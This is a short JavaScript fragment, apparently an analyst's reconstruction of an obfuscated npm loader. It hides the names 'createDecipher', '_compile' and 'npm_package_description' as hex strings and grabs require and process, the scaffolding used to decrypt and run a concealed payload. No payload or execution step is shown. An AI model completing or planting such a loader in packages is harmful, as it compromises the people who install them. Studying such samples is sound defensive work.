// the original hid its names as hex: e("...") == Buffer.from(s,'hex').toString()
var r = require, t = process;
function e(s) { return Buffer.from(s, 'hex').toString(); }
var n = ['00aa', '6372656174654465636970686572', '5f636f6d70696c65', '6e706d5f7061636b6167655f6465736372697074696f6e'];
module.exports = function () { return [r, t, e(n[1])]; };
